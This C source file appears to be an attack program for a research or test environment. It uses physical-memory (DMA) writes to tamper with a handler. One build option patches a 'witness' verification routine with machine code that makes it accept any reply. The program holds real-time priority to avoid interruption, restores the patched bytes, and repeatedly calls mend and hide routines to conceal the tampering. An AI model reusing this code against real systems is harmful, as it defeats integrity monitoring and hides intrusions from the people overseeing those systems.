// SPDX-License-Identifier: GPL-2.0-only
/*
 * Tampers with the handler by writes to physical memory, waits for the file /enough, restores all.
 * WAY is a header with the way to memory: begin(), get() and put(). PATCHED: meanwhile the
 * witness's code takes any reply for a right reply.
 *
 * The guest has one CPU. No other task runs while a program of this priority does not sleep.
 */
#include <linux/mman.h>
#include <linux/sched.h>
#include <linux/time_types.h>
#include <linux/types.h>

#include "dma.h"
#include "forge.h"

#define MILLISECOND 1000000

static const unsigned long places[] = {
	[SECRET] = SECRET_AT,
	[CHAIN] = CHAIN_AT,
	[TALLY] = TALLY_AT,
	[CHAINS] = CHAINS_AT,
	[CODE] = IS_RIGHT_AT,
};

#ifdef UNCOVERED
#define IS_COVERED false
#else
#define IS_COVERED true
#endif

static long memory;

#ifdef PATCHED
/* mov $1, %eax; ret */
static const char always[] = { (char)0xb8, 1, 0, 0, 0, (char)0xc3 };
static char original[sizeof(always)];
#endif

static void sleep_for(long milliseconds)
{
	struct __kernel_timespec time = { .tv_nsec = milliseconds * MILLISECOND };

	sys(__NR_nanosleep, &time, 0);
}

#include WAY

/* Wait until the requests that are under way are answered: the next request is a new request. */
static void wait_for_reply(void)
{
	struct witness_count before, now;

	TALLY_GET(count, &before);
	do {
		sleep_for(5);
		TALLY_GET(count, &now);
	} while (now.sent < before.sent + 2);
}

int main(int argc, char **argv, char **envp)
{
	int priority = 99;

	(void)argc;
	(void)argv;
	(void)envp;
	if (!begin() || sys(__NR_sched_setscheduler, 0, SCHED_FIFO, &priority))
		return 1;
#ifdef PATCHED
	get(CODE, 0, original, sizeof(original));
	put(CODE, 0, always, sizeof(always));
#endif
	tamper();
	while (sys(__NR_access, "/enough", 0))
		sleep_for(5);
#ifdef PATCHED
	put(CODE, 0, original, sizeof(original));
#endif
	do {
		mend();
		hide();
		wait_for_reply();
	} while (IS_COVERED && wrong_replies());
	return 0;
}
